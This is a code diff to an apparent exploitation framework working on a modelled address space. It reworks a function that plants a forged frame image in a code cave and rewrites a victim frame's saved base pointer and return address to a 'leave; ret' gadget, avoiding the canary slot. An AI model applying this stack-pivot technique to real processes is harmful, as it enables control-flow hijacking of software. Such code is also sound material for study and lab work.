@@ -14,8 +14,8 @@ from __future__ import annotations
 from dataclasses import dataclass
 
 from . import explorer
-from .memspace import AddressSpace, MemoryFault
-from .probe import NotWritableError, Prober
+from .memspace import PAGE_SIZE, AddressSpace, MemoryFault
+from .probe import WRITABLE
 from .gadgets import ChainWord
 from .caves import CaveRegion
 
@@ -137,19 +137,20 @@ def forge_fake_frame(
 
 
 def inject(
-    space: AddressSpace,
-    prober: Prober,
+    pm: explorer.PageMap,
     victim: VictimFrame,
     image: FakeFrameImage,
     epilogue_gadget_addr: int,
 ) -> None:
-    """Plant the image and arm the victim frame, all through safe writes.
+    """Plant the image and arm the victim frame, on the store's verdicts.
 
-    Write order: image into the cave, then both frame slots, saved base
-    pointer and saved return address, in one 16-byte write, so the frame
-    is armed last and never half-armed.  If that write is refused, the
-    cave is restored.  The canary slot below the frame is never written.
-    """
+    Every page either write touches is clawed through ``pm`` before any
+    byte is written; the store already holds them, so this pays no
+    transaction.  The first page not writable raises InjectionError with
+    nothing written.  The image goes into the cave first, then both frame
+    slots in one 16-byte write, so the frame is never half-armed.  The
+    canary slot below the frame is never written."""
+    space = pm.space
     slot = victim.rbp_slot_addr
     current = space.read_bytes(slot, 16)
     cur_rbp = int.from_bytes(current[:8], "little")
@@ -165,13 +166,12 @@ def inject(
     if gadget != b"\xc9\xc3":
         raise InjectionError("epilogue gadget is not a leave; ret site")
 
-    blob = image.image_bytes()
-    old_cave = space.read_bytes(image.base, len(blob))
-    prober.safe_write(space, image.base, blob)
-    rbp, rip = image.base, epilogue_gadget_addr
-    frame = rbp.to_bytes(8, "little") + rip.to_bytes(8, "little")
-    try:
-        prober.safe_write(space, slot, frame)
-    except NotWritableError:
-        prober.safe_write(space, image.base, old_cave)
-        raise
+    frame = image.base.to_bytes(8, "little")
+    frame += epilogue_gadget_addr.to_bytes(8, "little")
+    writes = ((image.base, image.image_bytes()), (slot, frame))
+    for addr, data in writes:
+        for base in range(AddressSpace.page_base(addr), addr + len(data), PAGE_SIZE):
+            if pm.claw(base) is not WRITABLE:
+                raise InjectionError(f"page {base:#x} is not writable")
+    for addr, data in writes:
+        pm.prober.safe_write(space, addr, data)
